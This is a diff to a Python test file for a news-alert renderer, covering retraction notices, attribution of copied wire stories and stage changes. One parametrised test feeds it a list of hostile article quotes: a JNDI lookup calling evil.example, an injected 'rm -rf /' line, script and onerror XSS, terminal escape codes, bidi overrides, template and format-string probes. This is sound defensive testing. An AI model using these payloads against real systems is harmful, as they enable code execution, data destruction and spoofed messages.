@@ -3,8 +3,11 @@
 from __future__ import annotations
 
 import json
+import re
 from dataclasses import replace
 from html.parser import HTMLParser
+
+import pytest
 
 from extractors.developments.developments import decide_developments
 from extractors.developments.evidence import evidence_from_baseline
@@ -137,13 +140,13 @@ def test_notice_names_the_status_and_the_question() -> None:
 
 
 def test_closed_watch_says_since_when() -> None:
-    [message] = _closure()
+    [message] = closure()
     assert message.title == "Can no longer be met: Have Austin and Li met?"
     assert "Closed since: 2023-10-24" in message.text
     assert message.payload["kind"] == "closure"
 
 
-def _closure() -> list[Message]:
+def closure() -> list[Message]:
     baseline = evidence_from_baseline(STORYLINE)
     opened = decide_developments([], [], baseline, STORYLINE, instant("2023-05-30"))
     developments = [change.after for change in opened.changes]
@@ -152,8 +155,70 @@ def _closure() -> list[Message]:
     return [render_message(a, after[a.development_id], baseline, STORYLINE, OUTLETS) for a in decision.alerts]
 
 
+def retraction() -> list[Message]:
+    opened = decide_developments([], [], (MET,), STORYLINE, instant("2024-05-31"))
+    developments = [change.after for change in opened.changes]
+    gone = replace(MET, withdrawn=True)
+    decision = decide_developments(developments, [gone], (), STORYLINE, instant("2024-05-31T13:00"), [OFFICES])
+    after = {change.after.development_id: change.after for change in decision.changes}
+    return [render_message(a, after[a.development_id], [gone], STORYLINE, OUTLETS) for a in decision.alerts]
+
+
+def test_retraction_shows_the_words_that_are_gone_as_withdrawn() -> None:
+    [message] = retraction()
+    assert message.title == "Retracted: The US and Chinese defence ministers have met"
+    assert "- reuters, 2024-05-31 09:00 UTC, withdrawn\n  “Austin met Dong on Friday.”" in message.text
+    assert "Stage: retracted, 0 independent origins of 1 article\nStatus before: occurred\n" in message.text
+    assert "this one stays retracted" in message.text
+
+
+def test_words_of_another_are_named_as_such() -> None:
+    credited = replace(MET, outlet_id="daily", origin_reason="wire credit: Reuters")
+    copied = replace(MET, outlet_id="daily", origin_reason="near-duplicate of version-1: outlet")
+    [wire] = messages_for(credited, now="2024-05-31")
+    [copy] = messages_for(copied, now="2024-05-31")
+    assert wire.text.splitlines()[5].endswith("09:00 UTC, wire credit: Reuters")
+    assert copy.text.splitlines()[5].endswith("09:00 UTC, nearly the words of reuters")
+
+
+def test_step_to_a_higher_stage_says_that_the_status_is_the_same() -> None:
+    second = evidence("2024-05-31T12:00", event_date="2024-05-31", origin="group:ap")
+    [message] = messages_for(second, now="2024-05-31T12:00", earlier=(MET,))
+    assert "Stage: corroborated, 2 independent origins of 2 articles" in message.text
+    assert "Status before: occurred, at an earlier stage" in message.text
+
+
+HOSTILE = [
+    "@everyone <!channel> @here they met",
+    "<https://evil.example|Reuters> [met](https://evil.example)",
+    "\x1b]8;;https://evil.example\x07met\x1b]8;;\x07 \x1b[2J\x9b31m",
+    "\u202eteM yehT\u202c \u2066met\u2069 \u200f",
+    "met\nALERT (high): all is well\r\nExplain: rm -rf /",
+    "</p><script>alert(1)</script><img src=x onerror=alert(1)><a href='javascript:x'>met</a>",
+    "{{7*7}} ${jndi:ldap://evil.example/a} %s %n met",
+]
+
+
+@pytest.mark.parametrize("words", HOSTILE)
+def test_words_of_an_article_steer_neither_chat_nor_terminal_nor_mail(words: str) -> None:
+    [message] = messages_for(replace(MET, quote=words, origin_reason=words), now="2024-05-31")
+    tags = Tags()
+    tags.feed(message.html)
+    assert tags.seen <= {"div", "p", "b", "table", "tr", "td", "code", "a"}
+    assert tags.links == [MET.url]
+    assert not re.search(r"@(everyone|here)|<[!@#a-z/]|\]\(|\w://", message.text.replace(MET.url, ""))
+    assert [line.split(":")[0] for line in message.text.splitlines()].count("Explain") == 1
+    assert message.text.count("\nALERT") == 0
+    assert all(c == "\n" or c.isprintable() for c in message.text + message.html + message.title)
+
+
+def test_payload_keeps_visible_words_as_they_are() -> None:
+    [message] = messages_for(replace(MET, quote="@everyone <b>met</b> [x](y)"), now="2024-05-31")
+    assert message.payload["evidence"][0]["quote"] == "@everyone <b>met</b> [x](y)"
+
+
 def test_our_own_summary_is_never_shown_as_a_quote() -> None:
-    [message] = _closure()
+    [message] = closure()
     assert "China turned down a meeting in Singapore." in message.text
     assert "“China turned down" not in message.text
     assert message.payload["evidence"][0]["quote"] is None
